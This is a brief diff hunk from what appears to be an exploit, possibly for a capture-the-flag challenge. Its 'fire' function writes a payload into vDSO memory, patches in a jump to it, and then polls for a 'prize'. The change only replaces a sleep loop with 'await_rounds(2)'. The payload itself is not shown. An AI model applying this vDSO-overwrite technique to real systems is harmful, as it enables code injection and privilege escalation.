@@ -19,8 +19,7 @@ static bool fire(void)
 	for (const char *byte = vdso_payload; byte < vdso_payload_end; byte++)
 		poke8(view + VDSO_PAYLOAD_AT + (uint64_t)(byte - vdso_payload), (uint8_t)*byte);
 	poke(view + at, vdso_jump_from(at));
-	for (int i = 0; i < 100 && !reads_prize(); i++)
-		sleep_milliseconds(10);
+	await_rounds(2);
 	return reads_prize();
 }
 
